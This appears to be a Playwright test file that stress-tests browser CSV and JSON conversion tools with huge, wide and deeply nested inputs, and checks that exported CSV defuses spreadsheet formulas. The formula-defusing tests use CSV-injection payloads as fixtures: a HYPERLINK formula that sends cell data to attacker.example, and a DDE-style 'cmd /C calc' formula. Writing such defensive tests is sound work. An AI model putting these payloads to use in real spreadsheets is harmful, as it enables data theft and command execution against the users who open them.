// csv-preview, csv-to-json, json-to-csv and json-to-ts against huge and hostile input (issues 35 and 36): each input
// ends in the right result or in a message naming the limit, the renderer never crashes, the page's main thread
// never blocks for a second, CSV written by the site defuses formulas (header too), and an ordinary input works
// right after on the same page. The big inputs are built in the page: a 600 MB file is one 1 MB Blob repeated.
import { parseCsv } from '../../src/lib/csv/csv'
import {
  captureDownload,
  freezeLimitMs,
  gotoTool,
  pasteBuiltText,
  startFreezeProbe,
  uploadFiles,
  watchPage,
} from '../support/helpers'
import { expect, type Page, test } from '../support/test'

type BuiltFile = 'padded-600mb' | 'cell-40mb' | 'columns-100k'

/** Sets a file built in the page on the tool's file input. */
async function chooseBuiltFile(page: Page, kind: BuiltFile) {
  await page
    .getByTestId('file-input')
    .first()
    .evaluate((input: HTMLInputElement, kind) => {
      let parts: BlobPart[]
      if (kind === 'padded-600mb') {
        const rows = ['id,name']
        for (let i = 1; i <= 1000; i++) rows.push(`${i},row ${i}`)
        const pad = new Blob(['\n'.repeat(1024 * 1024)])
        parts = [`${rows.join('\n')}\n`, ...Array.from({ length: 600 }, () => pad)]
      } else if (kind === 'cell-40mb') {
        const chunk = new Blob(['x'.repeat(1024 * 1024)])
        parts = ['big,n\n', ...Array.from({ length: 40 }, () => chunk), ',1\nsmall,2\n']
      } else parts = [`${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\n1,2\n`]
      const data = new DataTransfer()
      data.items.add(new File(parts, `${kind}.csv`, { type: 'text/csv' }))
      input.files = data.files
      input.dispatchEvent(new Event('change', { bubbles: true }))
    }, kind)
}

type BuiltText = 'nested-100k' | 'arrays-200k' | 'keys-20k' | 'shapes-20k' | 'nested-10mb'

/** Pastes a JSON text built in the page into the field labelled `label`. */
const pasteBuilt = (page: Page, label: string, kind: BuiltText) =>
  pasteBuiltText(page.getByLabel(label, { exact: true }), kind)

/** Builds the texts in the page before the main-thread probe starts (building them is the test's work, not the tool's). */
async function build(page: Page, ...kinds: BuiltText[]) {
  await page.evaluate((kinds) => {
    const w = window as unknown as { __built: Record<string, string> }
    w.__built ??= {}
    for (const kind of kinds) {
      let text = ''
      if (kind === 'nested-100k') text = `[${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}]`
      else if (kind === 'arrays-200k') text = JSON.stringify(Array.from({ length: 200_000 }, (_, i) => [i, `r${i}`]))
      else if (kind === 'keys-20k') text = JSON.stringify(Array.from({ length: 20_000 }, (_, i) => ({ [`k${i}`]: i })))
      else if (kind === 'shapes-20k') {
        const o: Record<string, unknown> = {}
        for (let i = 0; i < 20_000; i++) o[`x${i}`] = { item: { [`f${i}`]: i } }
        text = JSON.stringify(o)
      } else text = `{"pad":"${'x'.repeat(9 * 1024 * 1024)}","n":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_001)}`
      w.__built[kind] = text
    }
  }, kinds)
}

async function open(page: Page, slug: string, ...kinds: BuiltText[]) {
  const watch = await watchPage(page)
  await gotoTool(page, slug)
  if (kinds.length) await build(page, ...kinds)
  // Each read of the longest task also bounds the longest frame gap since the start (issue 35: under a second).
  const probe = await startFreezeProbe(page)
  return { watch, probe }
}

const csvFile = (name: string, text: string) => ({ name, mimeType: 'text/csv', buffer: Buffer.from(text) })

test.describe('csv-preview', () => {
  test('a 600 MB CSV (1,000 rows, then padding) is read a part at a time: 1,000 rows', async ({ page }) => {
    test.setTimeout(90_000)
    const { watch, probe } = await open(page, 'csv-preview')
    await chooseBuiltFile(page, 'padded-600mb')
    await expect(page.getByTestId('csv-summary')).toHaveText('1,000 of 1,000 rows · 2 columns', { timeout: 60_000 })
    await expect(page.getByTestId('csv-row').first().locator('td').nth(2)).toHaveText('row 1')
    expect(await probe.stop()).toBeLessThan(freezeLimitMs())
    await uploadFiles(page, [csvFile('small.csv', 'a,b\n1,2\n3,4\n')])
    await expect(page.getByTestId('csv-summary')).toHaveText('2 of 2 rows · 2 columns')
    expect(watch.crashes).toEqual([])
    expect(watch.pageErrors).toEqual([])
  })

  test('a 40 MB cell with no line break is shown capped; 100,000 columns are refused naming the limit', async ({
    page,
  }) => {
    test.setTimeout(90_000)
    const { watch, probe } = await open(page, 'csv-preview')
    await chooseBuiltFile(page, 'cell-40mb')
    await expect(page.getByTestId('csv-summary')).toHaveText('2 of 2 rows · 2 columns', { timeout: 45_000 })
    const shown = await page.getByTestId('csv-row').first().locator('td').nth(1).textContent()
    expect(shown).toBe(`${'x'.repeat(1000)}…`)
    await chooseBuiltFile(page, 'columns-100k')
    await expect(page.getByText('Line 1: 100,000 columns: this viewer shows up to 16,384.')).toBeVisible({
      timeout: 30_000,
    })
    expect(await probe.stop()).toBeLessThan(freezeLimitMs())
    await uploadFiles(page, [csvFile('small.csv', 'a,b\n1,2\n')])
    await expect(page.getByTestId('csv-summary')).toHaveText('1 of 1 rows · 2 columns')
    expect(watch.crashes).toEqual([])
    expect(watch.pageErrors).toEqual([])
  })

  test('the CSV download defuses formulas by default, header row included', async ({ page }) => {
    await open(page, 'csv-preview')
    const hostile = '"=HYPERLINK(""https://attacker.example/?""&A2,""Click"")",n\n@SUM(1),-1\n'
    await uploadFiles(page, [csvFile('hostile.csv', hostile)])
    await expect(page.getByTestId('csv-summary')).toHaveText('1 of 1 rows · 2 columns')
    const file = await captureDownload(page, () => page.getByRole('button', { name: 'Download CSV' }).click())
    expect(parseCsv(file.text(), ',').rows).toEqual([
      [`'=HYPERLINK("https://attacker.example/?"&A2,"Click")`, 'n'],
      ["'@SUM(1)", "'-1"],
    ])
    await page.getByText('Defuse spreadsheet formulas').click()
    const live = await captureDownload(page, () => page.getByRole('button', { name: 'Download CSV' }).click())
    expect(parseCsv(live.text(), ',').rows[1]).toEqual(['@SUM(1)', '-1'])
  })
})

test('csv-to-json: the 600 MB CSV gives its 1,000 records, never an empty []', async ({ page }) => {
  test.setTimeout(90_000)
  const { watch, probe } = await open(page, 'csv-to-json')
  await chooseBuiltFile(page, 'padded-600mb')
  await expect(page.getByTestId('csv-records')).toHaveText('1,000', { timeout: 60_000 })
  await expect(page.getByText('No records found')).toHaveCount(0)
  const file = await captureDownload(page, () =>
    page
      .getByRole('button', { name: /Download/ })
      .first()
      .click(),
  )
  const records = JSON.parse(file.text())
  expect(records).toHaveLength(1000)
  expect(records[999]).toEqual({ id: 1000, name: 'row 1000' })
  expect(await probe.stop()).toBeLessThan(freezeLimitMs())
  await page.getByRole('button', { name: 'Clear', exact: true }).click()
  await page.getByLabel('CSV text').fill('a,b\n1,x')
  await expect(page.getByRole('region', { name: 'JSON' })).toContainText('"b": "x"')
  expect(watch.crashes).toEqual([])
  expect(watch.pageErrors).toEqual([])
})

test('json-to-csv: headers defused by default; deep, long and wide JSON end in a result or a named limit', async ({
  page,
}) => {
  test.setTimeout(90_000)
  const { watch, probe } = await open(page, 'json-to-csv', 'nested-100k', 'arrays-200k', 'keys-20k')
  const input = page.getByLabel('JSON text', { exact: true })
  const output = page.getByRole('region', { name: 'CSV', exact: true })
  await input.fill(
    JSON.stringify([
      { '=HYPERLINK("https://attacker.example/?"&A2,"Click")': '+1', "@SUM(1)*cmd|' /C calc'!A0": '\tx' },
    ]),
  )
  await expect(output).toContainText('HYPERLINK')
  const rows = parseCsv((await output.textContent()) ?? '', ',').rows
  expect(rows).toEqual([
    [`'=HYPERLINK("https://attacker.example/?"&A2,"Click")`, "'@SUM(1)*cmd|' /C calc'!A0"],
    ["'+1", "'\tx"],
  ])
  const error = page.getByTestId('json-to-csv-error')
  await page.getByRole('button', { name: 'Clear', exact: true }).click()
  await pasteBuilt(page, 'JSON text', 'nested-100k')
  await expect(error).toHaveText(
    'This JSON nests more than 1,000 levels deep; JSON to CSV flattens up to 1,000 levels.',
  )
  await page.getByRole('button', { name: 'Clear', exact: true }).click()
  await pasteBuilt(page, 'JSON text', 'arrays-200k')
  await expect(page.getByTestId('json-to-csv-rows')).toHaveText(/^200,?000$/)
  await page.getByRole('button', { name: 'Clear', exact: true }).click()
  await pasteBuilt(page, 'JSON text', 'keys-20k')
  await expect(error).toContainText('a CSV for spreadsheets holds up to 16,384 columns.')
  expect(await probe.stop()).toBeLessThan(freezeLimitMs())
  await page.getByRole('button', { name: 'Clear', exact: true }).click()
  await input.fill('[{"a":1,"b":"x"}]')
  await expect(output).toHaveText('a,b\r\n1,x')
  expect(watch.crashes).toEqual([])
  expect(watch.pageErrors).toEqual([])
})

test('json-to-ts: 20,000 shapes under one key are named fast; 100,000 levels are refused naming the limit', async ({
  page,
}) => {
  test.setTimeout(90_000)
  const { watch, probe } = await open(page, 'json-to-ts', 'shapes-20k', 'nested-10mb')
  await pasteBuilt(page, 'JSON', 'shapes-20k')
  await expect(page.getByText(/^40001 types$/)).toBeVisible({ timeout: 30_000 })
  await page.getByRole('button', { name: 'Clear', exact: true }).click()
  await pasteBuilt(page, 'JSON', 'nested-10mb')
  await expect(page.getByTestId('json-to-ts-limit')).toHaveText(
    'This JSON nests 100,001 levels deep: JSON to TypeScript types up to 500 levels.',
    { timeout: 30_000 },
  )
  expect(await probe.stop()).toBeLessThan(freezeLimitMs())
  await page.getByRole('button', { name: 'Clear', exact: true }).click()
  await page.getByLabel('JSON', { exact: true }).fill('{"id":1}')
  await expect(page.getByRole('region', { name: 'Generated TypeScript' })).toHaveText(
    'export interface Root {\n  id: number;\n}\n',
  )
  expect(watch.crashes).toEqual([])
  expect(watch.pageErrors).toEqual([])
})
